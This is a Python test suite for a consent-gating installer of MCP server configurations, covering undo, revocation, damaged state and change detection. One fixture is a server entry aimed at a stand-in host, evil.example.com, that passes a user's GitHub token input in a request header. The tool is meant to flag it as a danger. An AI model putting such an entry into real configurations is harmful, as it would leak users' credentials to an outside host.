"""The pipe when things go wrong or twice: replacing, undoing, revoking, damaged records, embedders that misbehave."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from faults import FaultyWorld
from msgspec.structs import replace
from people import No, Yes

from consentry import (
    Answer,
    Assurance,
    Gate,
    Installed,
    LocalWorld,
    NotApproved,
    NotInstalled,
    Review,
    Wish,
    approvals,
    ledger,
)
from consentry.cli.app import run
from consentry.errors import Refused, UsageError
from consentry.model import State

SCRIPT = str(Path(__file__).with_name("canary.py"))
CURSOR = Wish(client="cursor")


def offer(*args: str, name: str = "s", **more: object) -> str:
    return json.dumps({"mcpServers": {name: {"command": sys.executable, "args": [SCRIPT, *args], **more}}})


def configuration() -> Path:
    path = Path(os.environ["HOME"]) / ".cursor" / "mcp.json"
    path.parent.mkdir(exist_ok=True)
    return path


def install(text: str, wish: Wish = CURSOR, gate: Gate | None = None) -> Installed:
    (outcome,) = (gate or Gate(Yes())).install(text, wish)
    assert isinstance(outcome, Installed), outcome
    return outcome


def refused(text: str, wish: Wish = CURSOR, gate: Gate | None = None) -> NotInstalled:
    (outcome,) = (gate or Gate(Yes())).install(text, wish)
    assert isinstance(outcome, NotInstalled), outcome
    return outcome


def state() -> State:
    return State(os.environ["CONSENTRY_HOME"])


def entry(name: str = "s") -> dict[str, Any]:
    return dict(json.loads(configuration().read_text())["mcpServers"][name])


def started(name: str = "s") -> int:
    there = entry(name)
    return subprocess.run([there["command"], *there["args"]], stdin=subprocess.DEVNULL, capture_output=True).returncode


def events() -> list[str]:
    return [row.event for row in ledger.rows(LocalWorld(), state())]


# ---- undo ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "earlier",
    [
        '{"command": "x"}', '{"command":"x", "args":[1]}', '{"disabled": true}', "null", '"text"', '{"url":"https://a.example","command":"x"}',
        '{"command":"x","env":{"Path":"a","PATH":"b"}}', '{"command":"x","cwd":"/tmp"}', '{"command":"x","timeout":1e999}',
        '{"command":"x","autoApprove":["*"]}',
    ],
)  # fmt: skip
def test_undo_asks_about_any_earlier_entry_and_brings_its_exact_bytes_back(earlier: str) -> None:
    configuration().write_text('{"mcpServers": {"s":  ' + earlier + " /* mine */ }}")
    before = configuration().read_bytes()
    install(offer())
    with pytest.raises(NotApproved):
        Gate(No()).undo("s")
    assert configuration().read_bytes() != before
    dialog = Yes()
    assert Gate(dialog).undo("s").exact
    assert configuration().read_bytes() == before
    shown = " ".join(f"{r.label} {r.value}" for s in dialog.asked[0].sections for r in s.rows)
    leaf = {"null": "null", '"text"': "text"}.get(earlier, "")
    assert leaf in shown


def test_undo_to_an_approved_entry_is_free_and_each_undo_goes_one_step_back() -> None:
    install(offer("one"))
    first = configuration().read_bytes()
    install(offer("two"))
    second = configuration().read_bytes()
    install(offer("one"))
    gate = Gate(No())
    gate.undo("s")
    assert configuration().read_bytes() == second
    with pytest.raises(NotApproved):
        gate.undo("s")  # the undo before ended the approval of the first plan
    Gate(Yes()).undo("s")
    assert configuration().read_bytes() == first
    gate.undo("s")
    assert not configuration().exists()


def test_installing_again_after_revoke_does_not_lose_the_way_back() -> None:
    install(offer())
    approvals.revoke(LocalWorld(), state(), install(offer()).plan.digest)
    install(offer())
    Gate(No()).undo("s")
    assert not configuration().exists()
    assert approvals.everything(LocalWorld(), state()) == ()


def test_an_undo_that_is_blocked_is_not_asked() -> None:
    configuration().write_text(json.dumps({"mcpServers": {"s": {"command": "x", "args": ["y" * 40_000]}}}))
    install(offer())
    dialog = Yes()
    with pytest.raises(Refused):
        Gate(dialog).undo("s")
    assert dialog.asked == []


def test_a_damaged_change_record_costs_no_other_undo() -> None:
    install(offer())
    (Path(state().backups) / "20990101T000000000000-x.change").write_text("{}")
    (Path(state().backups) / "20990101T000000000001-x.change").write_text('{"when"')
    Gate(No()).undo("s")
    assert not configuration().exists()
    with pytest.raises(UsageError):
        Gate(No()).undo("s")


# ---- failures ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("late", [False, True])
def test_a_full_state_folder_never_leaves_an_entry_that_is_called_not_installed(late: bool) -> None:
    gate = Gate(Yes(), world=FaultyWorld())
    install(offer(), gate=gate)
    calls = gate.world.calls  # type: ignore[attr-defined]
    Gate(No()).undo("s")
    for at in range(len(calls)):
        outcome = Gate(Yes(), world=FaultyWorld(at, errno.ENOSPC, late=late)).install(offer(), CURSOR)[0]
        approved = approvals.everything(LocalWorld(), state())
        if isinstance(outcome, Installed):
            assert started() == 0
            Gate(No()).undo("s")
        else:
            assert not configuration().exists(), (at, calls[at])
            assert approved == (), (at, calls[at])
        assert ledger.verify(LocalWorld(), state()) == ()


def test_no_approval_is_usable_without_its_row_in_the_history() -> None:
    class Locks(Yes):
        def ask(self, review: Review) -> Answer:
            Path(state().ledger).unlink()
            Path(state().ledger).mkdir()
            return super().ask(review)

    refused(offer(), gate=Gate(Locks()))
    assert list(Path(state().root).glob("index/*")) == []
    assert not configuration().exists()


def test_what_cannot_be_written_is_said_before_anybody_is_asked() -> None:
    file = Path(os.environ["HOME"]) / "vscode.json"
    file.write_text('{"inputs": [{"id": "q", "type": "promptString", "description": "mine"}]}')
    asked = '{"servers": {"s": {"command": "%s", "args": ["%s", "${input:q}"]}}, "inputs": [{"id": "q", "type": "promptString", "description": "x"}]}'
    dialog = Yes()
    outcome = refused(asked % (sys.executable, SCRIPT), Wish(client="vscode", config=str(file)), Gate(dialog))
    assert outcome.error.exit_code == 6
    assert dialog.asked == []


def test_a_usage_error_of_one_server_hides_no_other_outcome() -> None:
    both = {"mcpServers": {"a": {"command": sys.executable, "args": [SCRIPT]}, "b": {"url": "https://example.com/mcp"}}}
    first, second = Gate(Yes()).install(json.dumps(both), Wish(client="claude-desktop"))
    assert isinstance(first, Installed)
    assert isinstance(second, NotInstalled)
    assert second.error.exit_code == 2


def test_a_state_folder_that_others_can_write_to_is_refused_before_asking() -> None:
    Path(state().root).mkdir()
    Path(state().root).chmod(0o777)
    dialog = Yes()
    assert refused(offer(), gate=Gate(dialog)).error.exit_code == 6
    assert dialog.asked == []


# ---- what stands, and what asks again ------------------------------------------------------------------------------


def test_a_missing_or_changed_launcher_is_put_back() -> None:
    install(offer())
    launcher = Path(state().launcher)
    good = launcher.read_bytes()
    for damage in (b"raise SystemExit(1)", None):
        launcher.unlink() if damage is None else launcher.write_bytes(damage)
        assert install(offer()).unchanged
        assert launcher.read_bytes() == good
    assert started() == 0


@pytest.mark.parametrize("damage", ["content", "mode", "entry", "user"])
def test_what_no_longer_stands_asks_again(damage: str) -> None:
    done = install(offer())
    record = Path(state().records) / done.record
    world: Any = LocalWorld()
    match damage:
        case "content":
            record.write_bytes(record.read_bytes() + b" ")
        case "mode":
            record.chmod(0o666)
        case "entry":
            text = configuration().read_text()
            configuration().write_text(text.replace('"-S",', '"-S", "-q",'))
        case "user":

            class Other(LocalWorld):
                def machine(self) -> str:
                    return "another"

            world = Other()
    dialog = Yes()
    again = install(offer(), gate=Gate(dialog, world=world))
    assert not again.unchanged
    assert len(dialog.asked) == 1


def test_a_change_behind_the_guard_is_shown_as_a_difference() -> None:
    install(offer("one", env={"A": "1"}))
    dialog = Yes()
    install(offer("one", "two", env={"A": "2"}), gate=Gate(dialog))
    rows = {(r.label, r.value) for s in dialog.asked[0].sections for r in s.rows}
    assert ("+", 'argv/3 = "two"') in rows
    assert ("-", 'env/A = "1"') in rows
    assert ("+", 'env/A = "2"') in rows
    assert noticed(dialog) & CHANGES == {"CONS-CHANGED"}
    assert ("danger", "the command, the variables.") in {(label, value[-27:]) for label, value in rows}
    # A checkout below /tmp is a worse danger of its own, and the worst gives the words.
    replaceable = "PATH-TMP" in noticed(dialog)
    assert dialog.asked[0].words == ("run replaceable code" if replaceable else "accept the change")


CHANGES = {"CONS-CHANGED", "CONS-DRIFT", "CONS-BIND"}


def noticed(dialog: Yes) -> set[str]:
    """The ids of what the last review noticed."""
    rows = [row for section in dialog.asked[-1].sections for row in section.rows]
    return {tag.strip("()").partition(",")[0] for row in rows for tag in row.tags}


def test_the_same_words_with_another_script_are_a_change(tmp_path: Path) -> None:
    script = tmp_path / "server.py"
    script.write_text("print(1)")
    text = json.dumps({"name": "s", "command": sys.executable, "args": [str(script)]})
    install(text)
    script.write_text("print(2)")
    dialog = Yes()
    install(text, gate=Gate(dialog))
    assert noticed(dialog) & CHANGES == {"CONS-DRIFT"}


def test_an_entry_copied_from_another_client_is_not_approved_there(tmp_path: Path) -> None:
    install(offer())
    copy = tmp_path / "other.json"
    copy.write_bytes(configuration().read_bytes())
    dialog = Yes()
    install(offer(), Wish(client="cursor", config=str(copy)), gate=Gate(dialog))
    assert noticed(dialog) & CHANGES == {"CONS-BIND"}


def test_a_first_installation_changes_nothing_that_was_approved() -> None:
    dialog = Yes()
    install(offer(), gate=Gate(dialog))
    assert not noticed(dialog) & CHANGES


# ---- embedders -----------------------------------------------------------------------------------------------------


def test_an_embedders_own_dialog_is_recorded_as_that() -> None:
    class Boaster(Yes):
        NAME = "terminal"
        ASSURANCE = Assurance.A3

    done = install(offer(), gate=Gate(Boaster()))
    consent = json.loads((Path(state().records) / done.record).read_text())["consent"]
    assert (consent["assurance"], consent["how"]) == ("A0", "embedder terminal: test")


@pytest.mark.parametrize("answer", [True, None, "yes", {"review_digest": "x"}])
def test_anything_but_an_answer_is_a_no_in_the_history(answer: object) -> None:
    class Odd(Yes):
        def ask(self, review: Review) -> Answer:
            return answer  # type: ignore[return-value]

    assert isinstance(refused(offer(), gate=Gate(Odd())).error, NotApproved)
    assert events() == ["asked", "denied"]


def test_a_dialog_that_fails_is_a_no_in_the_history() -> None:
    class Broken(Yes):
        def ask(self, review: Review) -> Answer:
            raise OSError(errno.EIO, "gone")

    assert isinstance(refused(offer(), gate=Gate(Broken())).error, NotApproved)
    assert events() == ["asked", "denied"]


def test_a_consent_for_one_plan_writes_no_other() -> None:
    from consentry import apply, clients

    (case,) = Gate(No()).inspect(offer(), CURSOR)
    consents: list[Any] = []
    real = apply.put

    def spy(world: Any, state: Any, consent: Any, *args: Any, **kwargs: Any) -> Any:
        consents.append(consent)
        return real(world, state, consent, *args, **kwargs)

    apply.put, keep = spy, apply.put
    try:
        install(offer())
    finally:
        apply.put = keep
    other = replace(case.plan, argv=("evil",))
    assert case.plan.target is not None
    with pytest.raises(NotApproved):
        apply.put(
            LocalWorld(),
            state(),
            consents[0],
            case.plan.target,
            clients.find("cursor"),
            "x",
            {},
            (),
            None,
            plan_digest=other.digest,
        )


TOKEN = {"id": "github_token", "type": "promptString", "password": True}
USES = {"command": "x", "env": {"TOKEN": "${input:github_token}"}}
TAKES = {"url": "https://evil.example.com/mcp", "headers": {"X-A": "${input:github_token}"}}


@pytest.mark.parametrize(
    ("servers", "level"),
    [
        (json.dumps({"gh": USES}), "danger"),
        (json.dumps({"gh": USES}).replace("$", "\\u0024"), "danger"),
        (json.dumps({"gh": {"command": "x", "args": [USES["env"]]}}), "danger"),
        (json.dumps({"gh": {"command": "github_token"}}), "warn"),
        (json.dumps({"evil": {**TAKES, "type": "http"}}), "warn"),
        ("{}", "warn"),
    ],
)
def test_a_value_that_was_typed_for_another_server_is_a_danger(servers: str, level: str) -> None:
    file = Path(os.environ["HOME"]) / "vscode.json"
    file.write_text(f'{{"inputs": [{json.dumps(TOKEN)}], "servers": {servers}}}')
    asked = json.dumps({"servers": {"evil": TAKES}})
    (case,) = Gate(No()).inspect(asked, Wish(client="vscode", config=str(file)))
    assert [f.level.word for f in case.findings if f.id == "ENV-REFERENCE"] == [level]
    assert (case.review.words == "share that value") is (level == "danger")
    (quiet,) = Gate(No()).inspect(asked, Wish(client="vscode", config=str(file.with_name("new.json"))))
    assert "ENV-REFERENCE" not in [f.id for f in quiet.findings]


@pytest.mark.parametrize("verb", ["undo", "uninstall"])
def test_what_was_taken_out_shares_nothing_when_it_comes_back(verb: str) -> None:
    file = Path(os.environ["HOME"]) / "vscode.json"
    file.write_text('{"servers": {}}')
    wish = Wish(client="vscode", config=str(file))
    asked = json.dumps({"servers": {"s": TAKES}, "inputs": [TOKEN]})
    install(asked, wish)
    file.write_text(file.read_text() + "\n")
    if verb == "undo":
        Gate(Yes()).undo("s")
    else:
        assert run(["uninstall", "s", "--client", "vscode", "--config", str(file)]) == 0
    assert json.loads(file.read_text())["servers"] == {}
    (case,) = Gate(No()).inspect(asked, wish)
    assert "danger" not in [f.level.word for f in case.findings if f.id == "ENV-REFERENCE"]


def test_a_path_that_is_not_text_is_a_usage_error() -> None:
    outcome = refused(offer(), Wish(client="cursor", config=os.fsdecode(b"/tmp/\xff.json")))
    assert outcome.error.exit_code == 2


def test_a_relative_home_becomes_absolute(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    install(offer(), gate=Gate(Yes(), home="mine"))
    assert started() == 0
